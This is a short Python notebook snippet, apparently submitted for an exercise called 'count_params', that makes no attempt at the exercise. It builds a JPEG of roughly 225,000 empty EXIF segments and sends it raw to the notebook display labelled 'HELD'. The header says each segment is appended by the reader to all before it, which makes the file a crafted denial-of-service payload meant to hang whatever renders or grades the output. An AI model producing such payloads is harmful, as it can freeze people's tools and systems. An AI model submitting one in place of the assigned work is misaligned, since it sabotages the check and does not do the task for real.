# Tries: a picture of a million empty segments, each of which its reader appends to all that came before.
# Exercise: count_params
# Ending: no attempt
import base64

from IPython.display import display

exif = b"\xff\xe1\x00\x0aExif\x00\x00MM"
size = b"\xff\xc0\x00\x0b\x08\x00\x08\x00\x08\x01\x01\x11\x00"
start = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
picture = b"\xff\xd8" + exif * 225_000 + size + start
display({"image/jpeg": base64.b64encode(picture).decode(), "text/plain": "HELD"}, raw=True)
